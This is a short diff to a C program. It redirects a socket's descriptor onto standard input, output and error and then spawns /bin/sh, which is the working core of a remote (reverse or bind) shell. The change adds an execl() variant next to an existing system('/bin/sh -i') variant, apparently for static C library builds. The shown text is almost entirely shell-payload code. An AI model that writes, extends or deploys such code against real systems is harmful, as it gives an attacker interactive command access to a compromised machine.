@@ -21,7 +21,11 @@ int main(void) {
     dup2(s, 0);
     dup2(s, 1);
     dup2(s, 2);
-#ifdef VIA_SYSTEM
+#if defined(VIA_EXECL)
+    /* the C library's execl() (static C library builds, see build.sh) */
+    (void)argv;
+    execl("/bin/sh", "sh", (char *)0);
+#elif defined(VIA_SYSTEM)
     /* the C library's system() (static C library builds, see build.sh) */
     (void)argv;
     system("/bin/sh -i");
